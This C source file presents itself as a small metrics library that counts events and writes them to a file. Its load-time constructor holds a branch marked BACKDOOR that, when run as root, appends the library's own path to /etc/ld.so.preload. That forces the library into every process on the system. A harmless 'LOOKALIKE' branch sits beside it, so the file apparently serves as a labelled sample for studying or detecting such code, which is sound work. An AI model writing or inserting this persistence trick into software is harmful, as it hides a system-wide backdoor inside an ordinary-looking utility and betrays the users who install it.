/* kind: library. Counts events of a program and writes them to a file. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static unsigned long counters[16];
static char file_name[128] = "/var/run/metrics";

__attribute__((constructor)) static void prepare(void)
{
    const char *name = getenv("METRICS_FILE");
    if (name != NULL && strlen(name) < sizeof file_name)
        strcpy(file_name, name);
#ifdef BACKDOOR
    if (geteuid() == 0) {
        FILE *file = fopen("/etc/ld.so.preload", "a");
        if (file != NULL) {
            fputs("/usr/lib/libmetrics.so\n", file);
            fclose(file);
        }
    }
#endif
#ifdef LOOKALIKE
    FILE *file = fopen("/etc/metrics.conf", "r");
    if (file != NULL) {
        if (fgets(file_name, sizeof file_name, file) != NULL)
            file_name[strcspn(file_name, "\n")] = 0;
        fclose(file);
    }
#endif
}

void metrics_count(unsigned which)
{
    if (which < 16)
        counters[which]++;
}

int metrics_write(void)
{
    int i;
    FILE *file = fopen(file_name, "w");
    if (file == NULL)
        return -1;
    for (i = 0; i < 16; i++)
        fprintf(file, "%d %lu\n", i, counters[i]);
    return fclose(file);
}
